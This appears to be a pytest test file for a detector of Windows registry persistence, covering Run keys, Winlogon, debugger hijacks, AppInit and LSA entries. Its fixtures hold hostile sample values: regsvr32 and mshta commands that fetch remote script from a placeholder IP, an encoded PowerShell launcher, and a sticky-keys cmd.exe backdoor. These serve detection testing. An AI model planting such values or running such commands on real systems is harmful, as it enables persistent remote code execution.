from pathlib import Path

import pytest

from tests.fixtures.hive_files import Value
from tests.fixtures.windows_machines import PROGRAM, Laid, collect, judge

NT = "Microsoft\\Windows NT\\CurrentVersion"
WINDOWS = f"{NT}\\Windows"
OPTIONS = f"{NT}\\Image File Execution Options"
REMOTE = "regsvr32 /s /i:http://192.0.2.1/x scrobj.dll"
MONITOR = "C:\\Windows\\Temp\\m.exe"
PLANTED = (
    "svchost.exe", "lsass.exe", "x.exe", "Users/Public/csrss.exe", "Users/Public/x.exe", "Windows/Temp/n.dll",
    "Windows/Temp/a.dll", "Windows/Temp/m.exe",
)  # fmt: skip
RUN = "Microsoft\\Windows\\CurrentVersion\\Run"
LSA = "Control\\Lsa"
MANAGER = "Control\\Session Manager"
ENCODED = "powershell.exe -nop -enc " + "QQBB" * 20


@pytest.mark.parametrize(
    ("key", "values", "indicator"),
    [
        (RUN, {"x": "C:\\$Recycle.Bin\\x.exe"}, "windows-runs-from-recycler"),
        (RUN, {"x": ENCODED}, "windows-encoded-powershell"),
        (RUN, {"x": "mshta http://192.0.2.1/x.hta"}, "windows-mshta-script"),
        (RUN, {"x": "C:\\svchost.exe"}, "windows-imitates"),
        (RUN, {"": "mshta http://192.0.2.1/x.hta"}, "windows-mshta-script"),
        (f"Wow6432Node\\{RUN}", {"x": "C:\\Users\\Public\\csrss.exe"}, "windows-imitates"),
        ("Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\001", {"1": "C:\\lsass.exe"}, "windows-imitates"),
        (f"{NT}\\Winlogon", {"Shell": "explorer.exe,C:\\Users\\Public\\x.exe"}, "windows-shell-foreign"),
        (f"{NT}\\Winlogon", {"Userinit": "C:\\Windows\\system32\\userinit.exe,C:\\x.exe,"}, "windows-userinit-foreign"),
        (f"{NT}\\Winlogon\\Notify\\bad", {"DLLName": "C:\\Windows\\Temp\\n.dll"}, "windows-runs-from-temp"),
        (WINDOWS, {"AppInit_DLLs": "C:\\Windows\\Temp\\a.dll", "LoadAppInit_DLLs": 1}, "windows-runs-from-temp"),
        (f"{OPTIONS}\\sethc.exe", {"Debugger": "cmd.exe"}, "windows-debugger-at-logon"),
        (f"{NT}\\SilentProcessExit\\notepad.exe", {"MonitorProcess": MONITOR}, "windows-runs-from-temp"),
        ("Microsoft\\Active Setup\\Installed Components\\{X}", {"StubPath": ENCODED}, "windows-encoded-powershell"),
        ("Microsoft\\Command Processor", {"AutoRun": REMOTE}, "windows-regsvr-remote"),
    ],
)  # fmt: skip
def test_planted_values_of_the_machine(tmp_path: Path, key: str, values: dict[str, Value], indicator: str) -> None:
    files = dict.fromkeys(PLANTED, PROGRAM)
    found = judge(tmp_path, Laid(software={key: values}, files=files))
    assert set(found) == {indicator}
    subject = found[indicator].subject
    assert (subject.registry or "").lower() == f"HKLM\\SOFTWARE\\{key}".lower()


@pytest.mark.parametrize(
    ("key", "values", "kind"),
    [
        (LSA, {"Notification Packages": ["scecli", "planted"]}, "lsa"),
        (MANAGER, {"BootExecute": ["autocheck autochk *", "planted"]}, "boot_execute"),
        (f"{MANAGER}\\AppCertDlls", {"x": "C:\\Windows\\Temp\\c.dll"}, "appinit"),
        ("Control\\Print\\Monitors\\bad", {"Driver": "planted.dll"}, "print_monitor"),
        ("Services\\WinSock2\\Parameters\\Protocol_Catalog9\\Catalog_Entries\\000000000001",
         {"PackedCatalogItem": b"C:\\planted.dll".ljust(400, b"\0")}, "winsock"),
    ],
)  # fmt: skip
def test_entries_of_every_control_set(tmp_path: Path, key: str, values: dict[str, Value], kind: str) -> None:
    entries = [one for one in collect(tmp_path, Laid(system={key: values})) if one.kind == kind]
    assert [one.registry for one in entries] == [f"HKLM\\SYSTEM\\ControlSet00{n}\\{key}" for n in (1, 2)]
    assert all("win-default" not in one.facts for one in entries)
    assert all(b"autochk" not in one.text and b"scecli" not in one.text for one in entries)


def test_values_of_users(tmp_path: Path) -> None:
    user: dict[str, dict[str, Value]] = {
        "Environment": {"UserInitMprLogonScript": "%TEMP%\\x.cmd"},
        "Control Panel\\Desktop": {"SCRNSAVE.EXE": "C:\\$Recycle.Bin\\x.scr"},
        f"Software\\{NT}\\Windows": {"load": "C:\\explorer.exe"},
    }
    files = {"Users/Administrator/AppData/Local/Temp/x.cmd": b"rem", "explorer.exe": PROGRAM}
    found = judge(tmp_path, Laid(user=user, files=files))
    assert set(found) == {"windows-runs-from-temp", "windows-runs-from-recycler", "windows-imitates"}
    assert found["windows-imitates"].confidence == "likely"


def test_usual_values_in_other_forms_are_usual(tmp_path: Path) -> None:
    software: dict[str, dict[str, Value]] = {
        f"{NT}\\Winlogon": {"Shell": "%SystemRoot%\\Explorer.EXE", "Userinit": "userinit", "GinaDLL": "msgina.dll"},
        f"{NT}\\Windows": {"AppInit_DLLs": " "},
        f"{NT}\\Image File Execution Options\\Your Image File Name Here without a path": {"Debugger": "ntsd -d"},
    }
    system: dict[str, dict[str, Value]] = {LSA: {"Security Packages": ['""'], "Authentication Packages": ["MSV1_0"]}}
    entries = collect(tmp_path, Laid(software=software, system=system))
    kinds = ("winlogon", "appinit", "ifeo", "lsa")
    assert [one.entry for one in entries if one.kind in kinds and "win-default" not in one.facts] == []
